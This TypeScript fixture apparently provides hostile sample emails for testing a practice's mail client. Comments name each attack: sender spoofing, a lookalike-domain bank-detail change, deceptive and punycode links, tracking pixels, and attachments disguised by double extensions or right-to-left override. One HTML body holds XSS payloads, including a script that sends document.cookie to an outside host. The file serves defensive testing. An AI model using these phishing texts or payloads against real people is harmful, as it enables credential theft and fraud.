import { lee, maria } from '../people.ts'
import type { Letter } from './compose.ts'

/** Right-to-left override: what follows is shown backwards. */
const rightToLeft = '\u202e'

/** What reaches every practice sooner or later. Each letter is one attack, named in its comment. */
export const hostile: readonly Letter[] = [
  // A sender who isn't the sender: the host found no valid signature, and answers go elsewhere.
  {
    from: maria,
    replyTo: 'maria.alvarez.private@freemail.example',
    subject: 'Please send my records',
    text: `Hello doctor,

I need my complete records today for a lawyer. My old address does not work any more, please answer to this one.

Maria Alvarez
`,
    authenticity: 'fail',
    hoursAgo: 2.4,
  },
  // A domain that looks like a colleague's: lee-psychlatry with an l. Its owner signs it correctly.
  {
    from: { name: lee.name, address: 'james.lee@lee-psychlatry.example' },
    subject: 'Changed bank details for the shared rent',
    text: `Dear Elena,

we changed banks. Please use the account in the attachment from this month on, and tell me when it is done.

James
`,
    attachments: [{ filename: 'bank-details.txt', content: 'IBAN: please call before you use this\n' }],
    hoursAgo: 6.7,
  },
  // Link text that names one host and leads to another, once in punycode.
  {
    from: { name: 'Northbridge Health Plan', address: 'security@northbridge-verify.example' },
    subject: 'Your provider account is locked',
    text: `Your provider account is locked. Sign in within 24 hours:
https://northbridge.example/login
`,
    html: `<p>Your provider account is locked. Sign in within 24 hours:</p>
<p><a href="https://login.northbridge-verify.example/session?id=2217">https://northbridge.example/login</a></p>
<p>Or use the <a href="https://xn--nrthbridge-hbb.example/">secure page</a>.</p>`,
    authenticity: 'none',
    hoursAgo: 9.3,
  },
  // Remote pictures of every kind: each would tell the sender that, when and where the mail was read.
  {
    from: { name: 'State Counseling Association', address: 'news@counseling-association.example' },
    subject: 'Autumn workshops: last places',
    text: `Three workshops still have places: trauma and sleep, couples, documentation. Answer this mail to book.
`,
    html: `<html><head><link rel="stylesheet" href="https://track.counseling-association.example/mail.css">
<style>.hero{background-image:url(https://track.counseling-association.example/hero.png?u=8812)}</style></head>
<body><div class="hero"><h1>Autumn workshops</h1></div>
<p>Three workshops still have places: <b>trauma and sleep</b>, <b>couples</b>, <b>documentation</b>.</p>
<p>Answer this mail to book.</p>
<img src="https://track.counseling-association.example/open.gif?u=8812" width="1" height="1" alt="">
<video poster="https://track.counseling-association.example/video.jpg"></video>
<p style="font-size:11px;color:#777">You get this because you are a member.</p></body></html>`,
    hoursAgo: 22,
    flags: ['seen'],
  },
  // Scripts, forms and frames.
  {
    from: { name: 'Parcel Service', address: 'delivery@parcels-today.example' },
    subject: 'We could not deliver your parcel',
    text: `We could not deliver your parcel. Open this mail in a browser to choose a new date.
`,
    html: `<p>We could not deliver your parcel. Choose a new date:</p>
<form action="https://parcels-today.example/collect"><input name="password" placeholder="Mail password"><button>Choose a date</button></form>
<script>document.location='https://parcels-today.example/'+document.cookie</script>
<img src="x" onerror="fetch('https://parcels-today.example/run')">
<iframe src="https://parcels-today.example/frame"></iframe>
<svg onload="alert(1)"></svg><meta http-equiv="refresh" content="0;url=https://parcels-today.example/">`,
    authenticity: 'none',
    hoursAgo: 31,
  },
  // File names that hide what they are: a double extension, and one written backwards.
  {
    from: { name: 'Accounts', address: 'invoices@office-supply.example' },
    subject: 'Overdue: invoice 2291',
    text: `Your invoice is overdue. Both pages are attached.
`,
    attachments: [
      {
        filename: 'Invoice-2291.pdf.exe',
        content: 'MZ not a program',
        contentType: 'application/octet-stream',
      },
      {
        filename: `Scan-${rightToLeft}fdp.scr`,
        content: 'MZ not a program either',
        contentType: 'application/pdf',
      },
    ],
    authenticity: 'none',
    hoursAgo: 33,
  },
  // What the host already filed as junk.
  {
    from: { name: 'Practice Growth', address: 'hello@more-patients.example' },
    subject: 'Double your patients in 30 days',
    text: 'Buy our list of 20,000 people in your area who search for therapy.\n',
    authenticity: 'none',
    mailbox: 'Junk',
    hoursAgo: 20,
  },
]
